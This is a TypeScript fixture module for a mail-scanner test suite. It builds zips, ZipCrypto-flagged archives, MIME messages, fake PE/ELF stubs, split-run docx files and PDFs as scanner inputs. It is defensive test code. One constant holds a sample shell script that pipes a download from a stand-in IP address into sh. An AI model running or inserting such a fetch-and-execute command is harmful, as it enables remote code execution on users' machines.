/**
 * The scanner corpus: the .eml files in test/corpus, plus messages built at test
 * time. EICAR and GTUBE are assembled from @mailmesh/testkit's constants and zips
 * are built with yazl when the tests run, so no file in the repository trips a
 * virus scanner or spam filter on a developer's machine.
 */
import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import { fileURLToPath } from 'node:url';
import yazl from 'yazl';

const dir = fileURLToPath(new URL('../corpus/', import.meta.url));

export function corpusFile(name: string): Buffer {
  return readFileSync(`${dir}${name}`);
}

export interface ZipEntry {
  readonly name: string;
  readonly content: Buffer;
  /** Default true. */
  readonly compress?: boolean;
}

export function zip(entries: readonly ZipEntry[]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const e of entries)
      z.addBuffer(e.content, e.name, { compress: e.compress ?? true, mtime: new Date(0) });
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
    z.end();
  });
}

/** Sets the "encrypted" flag (general purpose bit 0) on every member, as a ZipCrypto archive has. */
export function markEncrypted(buf: Buffer): Buffer {
  const out = Buffer.from(buf);
  for (let i = 0; i + 4 <= out.length; i++) {
    const sig = out.readUInt32LE(i);
    if (sig === 0x04034b50) out.writeUInt16LE(out.readUInt16LE(i + 6) | 1, i + 6);
    else if (sig === 0x02014b50) out.writeUInt16LE(out.readUInt16LE(i + 8) | 1, i + 8);
  }
  return out;
}

export interface Attachment {
  readonly filename: string;
  readonly content: Buffer;
  readonly contentType?: string;
}

/** A multipart/mixed message with a text part and base64 attachments. */
export function mimeMessage(opts: {
  subject?: string;
  text?: string;
  from?: string;
  to?: string;
  attachments?: readonly Attachment[];
  extraHeaders?: readonly string[];
}): Buffer {
  const b = 'mm-boundary-42';
  const lines = [
    `From: ${opts.from ?? 'Li Si <li.si@partner.example>'}`,
    `To: ${opts.to ?? 'zhang.san@sh.company.local'}`,
    `Subject: ${opts.subject ?? 'test'}`,
    'Date: Thu, 03 Dec 2026 10:00:00 +0800',
    'Message-ID: <built@partner.example>',
    ...(opts.extraHeaders ?? []),
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`,
    '',
    `--${b}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    opts.text ?? 'hello',
  ];
  for (const a of opts.attachments ?? []) {
    lines.push(
      `--${b}`,
      `Content-Type: ${a.contentType ?? 'application/octet-stream'}`,
      `Content-Disposition: attachment; filename="${a.filename}"`,
      'Content-Transfer-Encoding: base64',
      '',
      ...(a.content.toString('base64').match(/.{1,76}/g) ?? []),
    );
  }
  lines.push(`--${b}--`, '');
  return Buffer.from(lines.join('\r\n'), 'utf8');
}

/** A tiny PE file: "MZ" header and stub bytes; not runnable, detected by its magic. */
export const FAKE_PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(62, 0x90),
  Buffer.from('PE\0\0'),
]);
export const FAKE_ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]),
  Buffer.alloc(57),
]);
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://203.0.113.1/x | sh\n');

/** A minimal docx: the zip parts Word needs for the text to be found. */
export async function docx(paragraphs: readonly string[]): Promise<Buffer> {
  const body = paragraphs
    .map(
      (p) =>
        `<w:p><w:r><w:t>${[...p].slice(0, 2).join('')}</w:t></w:r><w:r><w:t>${[...p].slice(2).join('')}</w:t></w:r></w:p>`,
    )
    .join('');
  return zip([
    { name: '[Content_Types].xml', content: Buffer.from('<?xml version="1.0"?><Types/>') },
    {
      name: 'word/document.xml',
      content: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
      ),
    },
  ]);
}

export function rawDeflateRatio(buf: Buffer): number {
  return buf.length / deflateRawSync(buf).length;
}

/** A one-page PDF with `text` in Helvetica, written object by object with a valid xref table. */
export function pdf(text: string): Buffer {
  const stream = `BT /F1 24 Tf 72 720 Td (${text}) Tj ET`;
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objs.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  out += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
